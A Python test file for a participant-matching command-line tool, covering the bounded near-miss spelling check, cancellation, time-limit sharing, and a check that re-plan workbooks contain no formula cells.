    """One participant with 10,000 interests took 42 s and 1.69 GB, 37.5 s of it in the
    quadratic near-miss spelling check: now grouped by length and capped, with a note."""
    import random

    rng = random.Random(0)
    words: set[str] = set()
    while len(words) < 10_000:
        words.add("".join(rng.choice("abcdefghij") for _ in range(rng.randint(6, 12))))
    data = may2016()
    data["participants"][0]["interests"] = sorted(words)
    run = matcher("validate", str(write_json(tmp_path / "in.json", data)))
    assert run.returncode == 0, run.stderr
    # capped at MAX_COMPARISONS (or, on a loaded machine, stopped by the 2 s budget)
    assert "near-miss spelling check of interest or project topics" in run.stderr
    assert "(a bounded check)" in run.stderr


def test_spelling_check_grouped_by_length_is_exact() -> None:
    """Grouping keys by length never misses a pair the all-pairs comparison finds."""
    import random

    from rapidfuzz import fuzz

    from matcher.intake.spelling import _alike

    rng = random.Random(1)
    base = ["surrey heartlands", "frimley", "kent and medway", "mental health", "carers", "x"]
    keys: set[str] = set()
    for _ in range(800):
        w = rng.choice(base)
        if rng.random() < 0.5:
            i = rng.randrange(len(w))
            w = w[:i] + rng.choice("abcxyz ") + w[i + 1 :]
        keys.add(w + rng.choice(["", "s", " trust", "x"]))
    ordered = sorted(keys)
    brute = [
        (i, j)
        for i in range(len(ordered))
        for j in range(i + 1, len(ordered))
        if fuzz.ratio(ordered[i], ordered[j]) >= 90
    ]
    assert brute and _alike(ordered, 90.0) == brute


def near_miss_interests(count: int = 10_000) -> dict[str, Any]:
    """may2016 with one participant holding ``count`` interests, most of them one-letter typos
    of 2,500 others (the issue's pathological intake, with near-duplicates to find)."""
    import random

    rng = random.Random(0)
    base: set[str] = set()
    while len(base) < count // 4:
        base.add("".join(rng.choice("abcdefghijklmnop") for _ in range(rng.randint(8, 20))))
    words, ordered = set(base), sorted(base)
    while len(words) < count:
        w = rng.choice(ordered)
        i = rng.randrange(len(w))
        words.add(w[:i] + rng.choice("abcdefghijklmnop") + w[i + 1 :])
    data = may2016()
    data["participants"][0]["interests"] = sorted(words)
    return data


def test_spelling_check_of_10000_near_duplicates_is_capped_in_comparisons() -> None:
    """The near-miss check on one participant's 10,000 interests (7,500 of them typos of the
    others) stops at its comparison cap, a deterministic bound: the same comparisons and
    findings on every run, whatever the machine's load, and typos are still found."""
    from matcher.contract.instance import Instance
    from matcher.intake.spelling import MAX_COMPARISONS, check_spellings

    instance = Instance.model_validate(near_miss_interests())
    notes: list[str] = []
    first = check_spellings(instance, notes=notes, seconds=float("inf"))
    again = check_spellings(instance, seconds=float("inf"))
    assert 0 < first.comparisons <= MAX_COMPARISONS
    assert not first.complete
    assert (first.comparisons, first.found) == (again.comparisons, again.found)
    assert len(first.found) > 1_000  # one-letter typos found among the capped comparisons
    assert all(d.field == "interest or project topic" and d.ids == ("pl01",) for d in first.found)
    assert notes == [
        "near-miss spelling check of interest or project topics: compared each of the 10,017 "
        "spellings with the 99 most used and its 100 nearest only (a bounded check)"
    ]
    small = check_spellings(instance, seconds=float("inf"), max_comparisons=50_000)
    assert small.comparisons <= 50_000 and not small.complete


def test_spelling_check_stops_when_cancelled() -> None:
    """The check polls its caller between spellings and stops at the first False (how a solve
    cancels it), with a note; an uncut check on a clean intake says nothing."""
    from matcher.contract.instance import Instance
    from matcher.intake.spelling import check_spellings

    instance = Instance.model_validate(near_miss_interests())
    polls = 0

    def keep_going() -> bool:
        nonlocal polls
        polls += 1
        return polls < 100

    notes: list[str] = []
    cut = check_spellings(instance, notes=notes, seconds=float("inf"), keep_going=keep_going)
    assert polls == 100 and not cut.complete
    assert cut.comparisons < 100 * 200  # 99 spellings compared, at most 200 comparisons each
    assert notes[0].endswith("topics: cancelled (a bounded check)"), notes
    timed: list[str] = []
    out_of_time = check_spellings(instance, notes=timed, seconds=0)
    assert not out_of_time.complete and out_of_time.comparisons == 0
    assert "organisations: not done (stopped after 0 s, its time budget)" in timed[0]
    clean: list[str] = []
    whole = check_spellings(Instance.model_validate(may2016()), notes=clean)
    assert whole.complete and whole.comparisons > 0 and clean == []


def test_spelling_check_counts_against_solve_time_limit(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """`solve --time-limit 2` on the 10,000-interest intake: the near-miss check gets 0.2 s of
    the limit and the solve the rest: 1.8 s (deterministic: the whole share, however little
    the check used), or less by what the check took past its share, so the two together stay
    within the limit; the plan records the limit as given."""
    from click.testing import CliRunner

    import matcher.engine.assemble as assemble
    import matcher.intake.spelling as spelling
    from matcher.cli import main

    given: dict[str, float | None] = {}
    real_check, real_plan = spelling.check_spellings, assemble.make_plan

    def check(*args: Any, **kwargs: Any) -> Any:
        given["check"] = kwargs["seconds"]
        t0 = time.perf_counter()
        try:
            return real_check(*args, **kwargs)
        finally:
            given["check took"] = time.perf_counter() - t0

    def plan(*args: Any, **kwargs: Any) -> Any:
        given["solve"] = kwargs["time_limit"]
        return real_plan(*args, **kwargs)

    monkeypatch.setattr(spelling, "check_spellings", check)
    monkeypatch.setattr(assemble, "make_plan", plan)
    src = write_json(tmp_path / "in.json", near_miss_interests())
    out = tmp_path / "plan.json"
    run = CliRunner().invoke(main, ["solve", str(src), "--time-limit", "2", "-o", str(out)])
    assert run.exit_code == 0, run.output
    took = given["check took"]
    assert given["check"] == pytest.approx(0.2) and took is not None
    assert given["solve"] == pytest.approx(2.0 - max(0.2, took), abs=0.02)
    solve_s = given["solve"]
    assert solve_s is not None and solve_s <= 1.8
    assert json.loads(out.read_text(encoding="utf-8"))["run"]["time_limit"] == 2.0
    assert "near-miss spelling check of interest or project topics" in run.output
    given.clear()
    run = CliRunner().invoke(main, ["solve", str(src), "-o", str(out)])  # no limit: none taken
    assert run.exit_code == 0 and given["check"] == 2.0 and given["solve"] is None


@pytest.mark.slow
def test_spelling_check_and_solve_finish_within_time_limit(tmp_path: Path) -> None:
    """Wall clock (slow: timing on a loaded machine): `matcher solve --time-limit 2` on the
    10,000-interest intake, in process once the modules are loaded (a solve of may2016 first),
    reads the file, checks its spellings, solves, verifies and writes the plan within the
    limit + 1 s (the tolerance the time limits keep at scale)."""
    import time

    from click.testing import CliRunner

    from matcher.cli import main

    warm = CliRunner().invoke(main, ["solve", str(MAY2016), "-o", str(tmp_path / "warm.json")])
    assert warm.exit_code == 0, warm.output
    src = write_json(tmp_path / "in.json", near_miss_interests())
    started = time.monotonic()
    run = CliRunner().invoke(
        main, ["solve", str(src), "--time-limit", "2", "-o", str(tmp_path / "plan.json")]
    )
    elapsed = time.monotonic() - started
    assert run.exit_code == 0, run.output
    assert elapsed < 2 + 1, elapsed


def test_replan_workbook_with_changes_has_no_formula(tmp_path: Path) -> None:
    """Every sheet of a re-plan's workbook (the Changes sheet included) writes hostile text as
    text: no formula cell anywhere."""
    src = write_json(tmp_path / "in.json", hostile_tiny())
    first = tmp_path / "plan.json"
    assert matcher("solve", str(src), "-o", str(first)).returncode == 0
    data = hostile_tiny()
    data["participants"][2]["status"] = "withdrawn"
    src2 = write_json(tmp_path / "in2.json", data)
    out = tmp_path / "plan-v2.xlsx"
    # --force: the intake changed since the first plan (a withdrawal), which is the point
    run = matcher("solve", str(src2), "--previous", str(first), "-o", str(out), "--force")
    assert run.returncode == 0, run.stderr
    assert formula_cells(out) == []
